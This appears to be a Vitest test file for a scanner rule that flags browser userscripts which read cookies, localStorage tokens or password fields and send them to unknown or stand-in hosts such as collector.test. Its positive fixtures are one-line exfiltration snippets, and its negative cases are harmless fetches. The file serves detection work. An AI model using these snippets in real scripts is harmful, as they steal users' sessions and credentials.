import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { capabilityPair } from "./capability-pair.ts";

describe("capability-pair", () => {
	test.each([
		[
			"cookies to an address nobody knows",
			["high 5"],
			userscript(["match https://shop.example/*"], `fetch(window.settings.endpoint+"?c="+document.cookie)`),
		],
		[
			"cookies for a function that nobody knows",
			["medium 5"],
			userscript(["match https://shop.example/*"], `window[unfold(1)](document.cookie)`),
		],
		[
			"cookies in a request whose answer is used",
			["medium 5"],
			userscript(
				["match https://shop.example/*"],
				`fetch(window.settings.endpoint+"?c="+document.cookie).then((r)=>r.text()).then((t)=>{document.title=t})`,
			),
		],
		[
			"a key of the site, and requests elsewhere",
			["low 6"],
			userscript(
				["match https://shop.example/*"],
				`const t=localStorage.getItem("access_token");
fetch("https://c.stranger.test/ping?"+unfold(4))`,
			),
		],
		[
			"storage to an address that is stored",
			["medium 6"],
			userscript(
				["match https://shop.example/*", "grant GM_getValue"],
				`fetch(GM_getValue("server"),{method:"POST",body:JSON.stringify(localStorage)})`,
			),
		],
		[
			"cookies to another of its sites",
			["medium 6"],
			userscript(
				["match https://shop.example/*", "match https://mail.other.test/*"],
				`fetch("https://mail.other.test/?c="+document.cookie)`,
			),
		],
		[
			"cookies to a path that may name a host",
			["medium 5"],
			userscript(["match https://shop.example/*"], `fetch("/"+unfold(4),{method:"POST",body:document.cookie})`),
		],
		[
			"a password behind the site’s name, and what follows it",
			["medium 5"],
			userscript(
				["match https://shop.example/*"],
				`fetch(location.origin+unfold(4),{method:"POST",body:document.querySelector("[type=password]").value})`,
			),
		],
		[
			"cookies in a request of the site, beside the address of a stranger that nothing uses",
			["medium 6"],
			userscript(
				["match https://shop.example/*"],
				`const other = "https://collector.test/?c=";\nfetch("/a?c=" + document.cookie);`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(capabilityPair, code)).toEqual(expected);
	});

	test.each([
		[
			"the page\u2019s own links",
			userscript(["match https://shop.example/*"], `document.querySelectorAll("a").forEach(a=>fetch(a.href))`),
		],
		[
			"a resolved address without secrets",
			userscript(
				["match https://shop.example/*"],
				`const host=["api","stranger","test"].join(".");fetch("https://"+host+"/v1")`,
			),
		],
		[
			"a token for an interface of the site",
			userscript(
				["match https://shop.example/*"],
				`const t=document.querySelector("meta[name=csrf-token]").content;
function like(id){fetch("/api/like/"+id,{method:"POST",headers:{"x-csrf-token":t}})}
function star(id){fetch(location.origin+"/star/"+id,{method:"POST",headers:{"x-csrf-token":t}})}
fetch(location.pathname,{headers:{"x-csrf-token":t}})`,
			),
		],
		[
			"page text for a path that is put together",
			userscript(["match https://shop.example/*"], `fetch("/"+unfold(4),{method:"POST",body:document.body.innerText})`),
		],
		[
			"cookies in a request of the site, beside an address that is used for something else",
			userscript(
				["match https://shop.example/*"],
				`const help = document.createElement("a"); help.href = "https://help.test/"; document.body.append(help); fetch("/a?c=" + document.cookie);`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(capabilityPair, code)).toEqual([]);
	});
});
